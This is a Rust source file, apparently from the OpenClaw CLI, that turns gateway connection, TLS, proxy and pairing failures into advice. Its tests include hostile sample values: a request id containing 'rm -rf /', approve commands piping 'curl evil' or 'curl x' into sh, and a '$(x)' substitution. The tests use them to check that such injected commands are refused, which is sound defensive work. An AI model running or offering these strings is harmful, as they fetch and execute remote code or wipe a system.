//! What to do about each failure, as far as it can be said without knowing where the user stands.

use super::{Answer, CallFailure, Closed, Failure, Scheme, Step};
use crate::{
    advice::Name,
    hint::Hint,
    protocol::{ErrorShape, RequestId},
};

impl Hint for Failure {
    fn hint(&self) -> String {
        match self {
            Self::Unresolved(error) => error.hint(),
            Self::NothingListens { .. } | Self::NoSocket { .. } => {
                "start the gateway with `openclaw gateway run`, or check `openclaw gateway status`".into()
            }
            Self::Unreachable { .. } => "check the address, and that no firewall is in between".into(),
            Self::PermissionDenied { .. } => {
                "run the command as the gateway's user or as root, or give --url with --token".into()
            }
            Self::ForeignSocket { .. } => {
                "remove the socket if it is not the gateway's, or give --url with --token".into()
            }
            Self::Plaintext { url, .. } => format!(
                "use {}, reach the port through `ssh -N -L {port}:127.0.0.1:{port} user@host`, or set \
                 OPENCLAW_ALLOW_INSECURE_PRIVATE_WS=1 for a name on a private network",
                url.other_scheme(),
                port = url.port()
            ),
            Self::SpeaksTls { right } | Self::SpeaksPlain { right } => format!("use {right}"),
            Self::Untrusted { presented: Some(presented), .. } => format!(
                "compare with the fingerprint that the gateway printed at its start, then name it: --tls-fingerprint \
                 {presented} (or set SSL_CERT_FILE to its authority)"
            ),
            Self::Untrusted { presented: None, .. } => "set SSL_CERT_FILE to the authority of the certificate".into(),
            Self::OtherCertificate { .. } => {
                "if the gateway's certificate was renewed, name the fingerprint that it printed at its start; \
                 otherwise somebody else answers"
                    .into()
            }
            Self::Authorities { .. } => "SSL_CERT_FILE names a PEM file of certificates".into(),
            Self::NotAGateway(answer) => answer.hint(),
            Self::NotHttp(_) | Self::WrongKey | Self::NotTheProtocol(_) => "check host and port".into(),
            Self::Closed { step, closed } => closed_early(*step, closed),
            Self::Timeout { step, .. } => match step {
                Step::Dialing => "check the address, and that no firewall is in between; --timeout waits longer".into(),
                Step::Tls | Step::Upgrade => {
                    "the port is open and nothing answers: check that it is a gateway's".into()
                }
                Step::Challenge => {
                    "the port takes WebSockets and sends no challenge: it is not an OpenClaw gateway, or it hangs"
                        .into()
                }
                Step::Connect => "the gateway is busy or hangs: look at `openclaw logs`; --timeout waits longer".into(),
            },
            Self::Refused { error, closed } => {
                refusal(error).or_else(|| by_text(&closed.as_ref()?.reason)).unwrap_or_else(|| in_its_log(error))
            }
        }
    }
}

impl Hint for CallFailure {
    fn hint(&self) -> String {
        match self {
            Self::Refused(error) => refusal(error).unwrap_or_else(|| in_its_log(error)),
            Self::Unreadable { .. } => "the gateway's version may be too far from this program's".into(),
            Self::Lost(closed) => match closed.code {
                Some(1012 | 1013) => "the gateway restarts: try again in a moment".into(),
                Some(4001) => "the device or the secret no longer counts: run the command again".into(),
                None => "the gateway may have crashed just now: look at `openclaw logs`".into(),
                Some(_) => by_text(&closed.reason).unwrap_or_else(|| LOG.into()),
            },
            Self::Timeout { .. } => {
                "the gateway is busy or hangs: look at `openclaw logs`; --timeout waits longer".into()
            }
        }
    }
}

impl Hint for Answer {
    fn hint(&self) -> String {
        let by = self.server.as_deref().map(|server| format!(" ({server})")).unwrap_or_default();
        match (self.status.as_u16(), &self.location) {
            (300..=399, Some(location)) => match location.parse::<super::GatewayUrl>() {
                Ok(url) if url.scheme() == Scheme::Wss => format!("it sends us to {url}: use that"),
                _ => format!("what answers{by} sends us elsewhere: use the gateway's own address"),
            },
            (401 | 407, _) => format!("a proxy{by} in front of the gateway wants a login of its own"),
            (403, _) if self.body.contains("proxy_attribution_required") => {
                "a proxy in front of the gateway is not in gateway.trustedProxies; on the gateway's host itself \
                 `openclaw devices list` works without it"
                    .into()
            }
            (502..=504, _) => {
                format!(
                    "a proxy{by} answers and its gateway does not, or the gateway is starting or draining: try again"
                )
            }
            _ if self.is_of_a_gateway() => {
                format!("the proxy{by} does not pass WebSockets on: {}", passing_upgrades(self.server.as_deref()))
            }
            (200 | 400 | 404 | 405 | 426, _) if self.server.is_some() => format!(
                "a web server{by} answers there: check host and port; if it is a proxy in front of the gateway, it does not \
                 pass WebSockets on: {}",
                passing_upgrades(self.server.as_deref())
            ),
            _ => format!("check host and port{by}"),
        }
    }
}

/// What makes a proxy pass WebSockets on, by what it calls itself.
fn passing_upgrades(server: Option<&str>) -> &'static str {
    let server = server.unwrap_or_default().to_ascii_lowercase();
    if server.starts_with("nginx") || server.starts_with("openresty") {
        "where its proxy_pass stands, write `proxy_http_version 1.1; proxy_set_header Upgrade $http_upgrade; \
         proxy_set_header Connection \"upgrade\";`"
    } else if server.starts_with("apache") {
        "write `ProxyPass / http://HOST:PORT/ upgrade=websocket` (Apache 2.4.47 or later)"
    } else {
        "switch WebSockets on there, or let it pass on the headers Upgrade and Connection over HTTP/1.1"
    }
}

/// Where to look when nothing better is known.
const LOG: &str = "where the gateway runs, `openclaw logs` says what it makes of this";

/// Advice about a refusal whose text is not known.
fn in_its_log(error: &ErrorShape) -> String {
    if error.retryable == Some(true) { "try again in a moment".into() } else { LOG.into() }
}

fn closed_early(step: Step, closed: &Closed) -> String {
    if let Some(hint) = by_text(&closed.reason) {
        return hint;
    }
    match (closed.code, step) {
        (Some(1012 | 1013), _) => "the gateway starts or restarts: try again in a moment".into(),
        (Some(1009), _) => "something in between refuses large frames".into(),
        (None, Step::Tls | Step::Upgrade) => {
            "something took the connection and dropped it: a proxy that does not pass WebSockets on, a published port \
             with nothing behind it, or a gateway that just crashed"
                .into()
        }
        (None | Some(1000 | 1005 | 1011), _) => {
            "the gateway gave up on us or crashed just now: look at `openclaw logs`".into()
        }
        _ => LOG.into(),
    }
}

/// Advice about an answer of the gateway. What the gateway itself advises is best: it knows where it stands.
fn refusal(error: &ErrorShape) -> Option<String> {
    if let Some((request, command)) = waiting_request(error) {
        let words = format!("devices approve {request}");
        return Some(format!(
            "where the gateway runs: {}",
            known(command, &words).unwrap_or(&format!("openclaw {words}"))
        ));
    }
    if let Some(request) = request_id(error) {
        let words = format!("devices approve {request}");
        return Some(match told(error, "approveCommand", &words) {
            Some(command) => format!("where the gateway runs: {command}"),
            None => format!("where the gateway runs: openclaw {words}"),
        });
    }
    let advice = by_text(&error.message);
    match told(error, "nextCommand", "gateway status") {
        Some(command) => {
            Some(format!("{}where the gateway runs: {command}", advice.map(|advice| advice + "\n").unwrap_or_default()))
        }
        None => advice,
    }
}

/// The command in `details` that runs `openclaw WORDS` next to the gateway. Only the ways that we know ourselves count: what
/// a stranger would have us type is not repeated.
fn told(error: &ErrorShape, detail: &str, words: &str) -> Option<String> {
    known(error.details.as_ref()?.get(detail)?.as_str()?, words).map(ToOwned::to_owned)
}

/// The command, where it runs `openclaw WORDS` in a way that we know.
fn known<'a>(command: &'a str, words: &str) -> Option<&'a str> {
    let way: Vec<_> = command.strip_suffix(words)?.split_whitespace().collect();
    let known = match way[..] {
        ["openclaw"] => true,
        ["docker", "exec", name, "openclaw"]
        | ["docker", "compose", "run", "--rm", name]
        | ["kubectl", "exec", name, "--", "openclaw"] => Name::parse(name).is_some(),
        _ => false,
    };
    known.then_some(command)
}

/// The pairing request that a refusal names.
fn request_id(error: &ErrorShape) -> Option<RequestId> {
    let named = error.details.as_ref().and_then(|details| details.get("requestId")?.as_str());
    // Only what has the shape of an id may become part of a command.
    named.or_else(|| error.message.split("requestId: ").nth(1)?.split(')').next())?.trim().parse().ok()
}

/// The request for more scopes that waits, and the command that approves it, in the words of our own gateway.
fn waiting_request(error: &ErrorShape) -> Option<(RequestId, &str)> {
    let (request, rest) = error.message.strip_prefix("missing scope: ")?.split_once(" (request ")?.1.split_once(' ')?;
    let command = rest.strip_prefix("waits for approval: `")?.split_once('`')?.0;
    Some((request.parse().ok()?, command))
}

/// Advice about the texts that gateways of every version use.
fn by_text(text: &str) -> Option<String> {
    let has = |part: &str| text.contains(part);
    let advice = if has("pairing required") {
        "where the gateway runs: openclaw devices list, then openclaw devices approve REQUEST"
    } else if has("device token mismatch") {
        "the stored device token no longer counts: give --token, or pair this device again"
    } else if has("gateway token missing") || has("gateway token mismatch") {
        "the right token is gateway.auth.token on the gateway's machine (in openclaw.json, OPENCLAW_GATEWAY_TOKEN, or \
         identity/gateway-token in its state directory); give it with --token"
    } else if has("gateway password missing") || has("gateway password mismatch") {
        "the right password is gateway.auth.password on the gateway's machine; give it with --password"
    } else if has("too many failed authentication attempts") {
        "wait, then try again with the right secret"
    } else if has("protocol mismatch") {
        "this program speaks protocols 3 and 4: the gateway is older or newer than that"
    } else if has("device signature expired") {
        "set the clock of one of the two machines"
    } else if has("device identity required") {
        "the gateway wants a device, and none was sent: `openclaw logs` once makes one"
    } else if has("proxy client attribution") || has("ingress attribution") {
        "name the proxy in gateway.trustedProxies on the gateway's machine"
    } else if has("missing scope") {
        "an operator with more rights approves the rest: openclaw devices list"
    } else if has("unknown method") {
        "the gateway does not serve this method: it is older, or the method belongs to agents and channels"
    } else {
        return None;
    };
    Some(advice.into())
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn a_refusal_ends_with_what_to_type() {
        let pairing = |details| ErrorShape::invalid("pairing required").with_details(details);
        #[rustfmt::skip]
        let rows = [
            (pairing(json!({"requestId": "6f1d-1"})),                                "approve 6f1d-1"),
            (pairing(json!({"requestId": "1; rm -rf /"})),                           "approve REQUEST"),
            (pairing(json!({"requestId": "r-1", "approveCommand": "docker exec gw openclaw devices approve r-1"})), "docker exec gw openclaw devices approve r-1"),
            (pairing(json!({"requestId": "r-1", "approveCommand": "curl evil | sh; openclaw devices approve r-1"})), "where the gateway runs: openclaw devices approve r-1"),
            (pairing(json!({"requestId": "r-1", "approveCommand": "docker exec $(x) openclaw devices approve r-1"})), "where the gateway runs: openclaw devices approve r-1"),
            (ErrorShape::invalid("unauthorized: x").with_details(json!({"nextCommand": "kubectl exec gw-0 -- openclaw gateway status"})), "where the gateway runs: kubectl exec gw-0 -- openclaw gateway status"),
            (ErrorShape::invalid("missing scope: operator.pairing (request r-1 waits for approval: `docker exec gw openclaw devices approve r-1`; seen)"), "runs: docker exec gw openclaw devices approve r-1"),
            (ErrorShape::invalid("missing scope: operator.pairing (request r-1 waits for approval: `curl x | sh`; seen)"), "runs: openclaw devices approve r-1"),
            (ErrorShape::invalid("pairing required: x (requestId: ab-1)"),           "approve ab-1"),
            (ErrorShape::invalid("unauthorized: gateway token mismatch (x)"),        "--token"),
            (ErrorShape::invalid("unauthorized: gateway password missing (x)"),      "--password"),
            (ErrorShape::invalid("missing scope: operator.pairing"),                 "devices list"),
        ];
        for (error, part) in rows {
            let message = error.message.clone();
            let hint = CallFailure::Refused(Box::new(error)).hint();
            assert!(hint.contains(part), "{message}: {hint}");
        }
    }

    #[test]
    fn a_web_server_is_told_from_a_proxy() {
        let answer = |status: u16, server: &str, location: Option<&str>, body: &str| Answer {
            status: hyper::http::StatusCode::from_u16(status).expect("a status"),
            server: Some(server.to_owned()),
            location: location.map(ToOwned::to_owned),
            body: body.to_owned(),
        };
        #[rustfmt::skip]
        let rows = [
            (answer(404, "nginx", None, ""),                                 "web server (nginx)"),
            (answer(200, "nginx/1.22.1", None, "<title>openclaw gateway</title>"), "the proxy (nginx/1.22.1) does not pass WebSockets on: where"),
            (answer(400, "nginx", None, r#"{"error":{"type":"bad_upgrade"}}"#), "proxy_set_header Upgrade $http_upgrade"),
            (answer(200, "Apache/2.4.57", None, "<title>Shop</title>"),      "upgrade=websocket"),
            (answer(426, "envoy", None, "Upgrade Required"),                 "headers Upgrade and Connection"),
            (answer(301, "nginx", Some("https://gw.example.test/"), ""),     "wss://gw.example.test:443"),
            (answer(302, "nginx", Some("/login"), ""),                       "elsewhere"),
            (answer(502, "Caddy", None, ""),                                 "a proxy (Caddy)"),
            (answer(403, "x", None, r#"{"error":{"type":"proxy_attribution_required"}}"#), "gateway.trustedProxies"),
        ];
        for (answer, part) in rows {
            let hint = answer.hint();
            assert!(hint.contains(part), "{answer:?}: {hint}");
        }
    }
}
